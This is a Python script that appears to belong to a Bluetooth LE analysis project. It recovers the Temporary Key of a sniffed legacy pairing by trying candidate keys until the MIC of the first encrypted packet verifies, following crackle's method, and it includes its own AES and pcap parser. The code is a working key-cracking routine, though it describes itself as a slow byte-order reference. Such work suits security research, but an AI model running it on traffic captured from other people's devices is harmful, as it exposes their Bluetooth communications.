#!/usr/bin/env python3
"""Executable spec of the legacy-pairing TK search by MIC (issue 27, crackle's strategy 2).

    scripts/tk_mic_reference.py CAPTURE [--max N]

For a sniffed LE legacy pairing whose Pairing Confirm values were not captured: for each
TK candidate (0 = Just Works first), STK = s1(TK, Srand, Mrand), session key = e(STK, SKD),
then the first encrypted PDU after LL_START_ENC_REQ is opened with AES-CCM (counter 0, the
central's direction, then the peripheral's). The TK whose MIC verifies, with plaintext 0x06
(LL_START_ENC_RSP), is the TK. Pure Python (AES-128 below, FIPS-197): ~2.5 ms a candidate,
so it is a byte-order reference, not a cracker — the full 10^6 search belongs in Swift
(SMPLegacy). Reads pcap with PPI (Ubertooth, DLT 192) or DLT 256/251 records.

Byte orders it pins (all checked on crackle's missing_confirms.pcap: TK 000000, STK
59d4b35ece0df548c10efe17e9da1f4c, frame 583 = LL_START_ENC_RSP):
  TK          16 octets, most significant first, passkey in the last 4 (big-endian)
  STK         e(TK, reverse(Srand)[8:16] || reverse(Mrand)[8:16])   (randoms as sent, LSO first)
  SK          e(STK, reverse(SKDm || SKDs))                          (SKDm, SKDs as sent in LL_ENC_REQ/RSP)
  nonce       counter (39 bits, little-endian, 5 octets; bit 7 of the 5th = sent by the central) || IVm || IVs
  CCM         key SK (MSO first), M = 4, L = 2, AAD = header octet & 0xE3
"""
import struct
import sys
import time
SBOX = [0]*256
def _init():
    p = q = 1
    while True:
        p = p ^ ((p << 1) & 0xFF) ^ (0x1B if p & 0x80 else 0)
        q ^= q << 1; q ^= q << 2; q ^= q << 4; q &= 0xFF
        if q & 0x80: q ^= 0x09
        x = q ^ (((q << 1) | (q >> 7)) & 0xFF) ^ (((q << 2) | (q >> 6)) & 0xFF) ^ (((q << 3) | (q >> 5)) & 0xFF) ^ (((q << 4) | (q >> 4)) & 0xFF)
        SBOX[p] = x ^ 0x63
        if p == 1: break
    SBOX[0] = 0x63
_init()
def xt(a): return ((a << 1) ^ 0x1B) & 0xFF if a & 0x80 else a << 1
def expand(key):
    w = [list(key[i:i+4]) for i in range(0, 16, 4)]
    rcon = 1
    for i in range(4, 44):
        t = list(w[i-1])
        if i % 4 == 0:
            t = t[1:] + t[:1]; t = [SBOX[b] for b in t]; t[0] ^= rcon; rcon = xt(rcon)
        w.append([w[i-4][j] ^ t[j] for j in range(4)])
    return [sum(w[r*4:r*4+4], []) for r in range(11)]
def encrypt(key, block, rk=None):
    rk = rk or expand(key)
    s = [block[i] ^ rk[0][i] for i in range(16)]
    for r in range(1, 11):
        s = [SBOX[b] for b in s]
        s = [s[(i + 4*(i % 4)) % 16] for i in range(16)]   # ShiftRows (column-major)
        if r != 10:
            n = []
            for c in range(4):
                a = s[c*4:c*4+4]
                n += [xt(a[0]) ^ xt(a[1]) ^ a[1] ^ a[2] ^ a[3], a[0] ^ xt(a[1]) ^ xt(a[2]) ^ a[2] ^ a[3],
                      a[0] ^ a[1] ^ xt(a[2]) ^ xt(a[3]) ^ a[3], xt(a[0]) ^ a[0] ^ a[1] ^ a[2] ^ xt(a[3])]
            s = n
        s = [s[i] ^ rk[r][i] for i in range(16)]
    return bytes(s)


def records(path):
    """(frame, LL packet from the access address on) for each record of a pcap."""
    d = open(path, "rb").read()
    dlt = struct.unpack_from("<I", d, 20)[0]
    o, n = 24, 0
    while o + 16 <= len(d):
        incl = struct.unpack_from("<I", d, o + 8)[0]
        rec = d[o + 16:o + 16 + incl]
        o += 16 + incl
        n += 1
        if dlt == 192:
            rec = rec[struct.unpack_from("<H", rec, 2)[0]:]   # PPI header
        elif dlt == 256:
            rec = rec[10:]
        yield n, rec


def ccm_open(key, nonce, aad, sealed):
    """LE AES-CCM (M = 4, L = 2): the plaintext when the MIC verifies, else None."""
    rk = expand(key)
    data, mic = sealed[:-4], sealed[-4:]

    def a(i):
        return encrypt(key, bytes([0x01]) + nonce + struct.pack(">H", i), rk)

    plain = bytearray()
    for i in range(0, len(data), 16):
        plain += bytes(x ^ y for x, y in zip(data[i:i + 16], a(i // 16 + 1)))
    x = encrypt(key, bytes([0x49]) + nonce + struct.pack(">H", len(plain)), rk)
    x = encrypt(key, bytes(p ^ q for p, q in zip(x, bytes([0x00, 0x01, aad]) + bytes(13))), rk)
    for i in range(0, len(plain), 16):
        x = encrypt(key, bytes(p ^ q for p, q in zip(x, bytes(plain[i:i + 16]).ljust(16, b"\0"))), rk)
    return bytes(plain) if bytes(p ^ q for p, q in zip(x[:4], a(0)[:4])) == mic else None


def main(argv):
    import argparse
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("capture")
    ap.add_argument("--max", type=int, default=1000, help="last TK tried (default 1000)")
    a = ap.parse_args(argv)
    randoms, skdm = [], None
    start = first = None
    for n, p in records(a.capture):
        if len(p) < 6 or struct.unpack_from("<I", p)[0] == 0x8E89BED6:
            continue
        llid, ln = p[4] & 3, p[5]
        pay = p[6:6 + ln]
        if start is not None and ln > 0:
            first = (n, p[4], pay)
            break
        if llid == 2 and len(pay) >= 5 and struct.unpack_from("<H", pay, 2)[0] == 6 and pay[4] in (0x0C, 0x0D):
            sys.exit("tk_mic_reference: LE Secure Connections pairing (Public Key / DHKey Check): no TK to find")
        if llid == 2 and len(pay) >= 21 and struct.unpack_from("<H", pay, 2)[0] == 6 and pay[4] == 0x04:
            randoms.append(pay[5:21])                     # Pairing Random: initiator's, then responder's
        if llid == 3 and len(pay) >= 23 and pay[0] == 0x03:
            skdm, ivm = pay[11:19], pay[19:23]            # LL_ENC_REQ: Rand, EDIV, SKDm, IVm
        if llid == 3 and len(pay) >= 13 and pay[0] == 0x04:
            skds, ivs = pay[1:9], pay[9:13]               # LL_ENC_RSP: SKDs, IVs
        if llid == 3 and pay[:1] == b"\x05":
            start = n                                     # LL_START_ENC_REQ
    if len(randoms) < 2 or skdm is None or first is None:
        sys.exit("tk_mic_reference: needs both Pairing Randoms, LL_ENC_REQ/RSP and an encrypted PDU")
    mrand, srand = randoms[0], randoms[1]
    frame, header, sealed = first
    iv = ivm + ivs
    t0 = time.time()
    for tk in range(0, a.max + 1):
        stk = encrypt(bytes(12) + struct.pack(">I", tk), srand[::-1][8:] + mrand[::-1][8:])
        sk = encrypt(stk, (skdm + skds)[::-1])
        for central in (True, False):
            nonce = struct.pack("<I", 0) + bytes([0x80 if central else 0x00]) + iv
            plain = ccm_open(sk, nonce, header & 0xE3, sealed)
            if plain is not None and (len(plain) != 1 or plain == b"\x06"):
                print("TK %06d  STK %s  frame %d opened (%s, plaintext %s), %d candidates in %.1f s"
                      % (tk, stk.hex(), frame, "central" if central else "peripheral", plain.hex(), tk + 1, time.time() - t0))
                return 0
    print("no TK 0-%d opens frame %d" % (a.max, frame))
    return 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
